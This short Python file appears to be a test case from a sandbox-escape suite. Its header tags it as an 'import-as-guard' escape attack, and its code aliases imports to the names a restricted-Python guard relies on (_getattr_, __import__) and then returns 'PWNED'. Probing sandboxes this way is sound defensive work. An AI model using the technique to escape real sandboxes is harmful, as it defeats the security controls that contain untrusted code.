# attack: import-as-guard
# layer: language
# class: escape
# success: import binds the name of a guard
import math as _getattr_
from json import loads as __import__
def run():
    return "PWNED " + repr(().anything)
